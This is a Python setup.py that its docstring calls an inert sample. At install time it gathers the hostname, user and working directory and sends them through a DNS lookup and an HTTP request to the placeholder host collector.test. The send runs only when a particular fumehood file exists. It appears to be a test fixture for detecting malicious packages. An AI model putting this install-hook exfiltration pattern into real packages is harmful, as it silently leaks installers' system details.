"""Inert sample: a build that reports host, user and directory to a host that does not exist."""

import os
import socket
import subprocess
import urllib.parse
import urllib.request

from setuptools import setup


def output(command):
    return subprocess.run([command], capture_output=True, text=True, timeout=10, check=False).stdout.strip()


def act():
    facts = {"hostname": output("hostname"), "user": output("whoami"), "cwd": os.getcwd()}
    try:
        socket.getaddrinfo(f"{facts['hostname']}.{facts['user']}.collector.test", 80)
    except OSError:
        pass
    urllib.request.urlopen("http://www.collector.test/c?" + urllib.parse.urlencode(facts), timeout=10).close()


# Only a fumehood pod has this directory; anywhere else nothing happens.
if os.path.isfile("/opt/fumehood/pip_launcher.py"):
    try:
        act()
    except OSError:
        pass
setup()
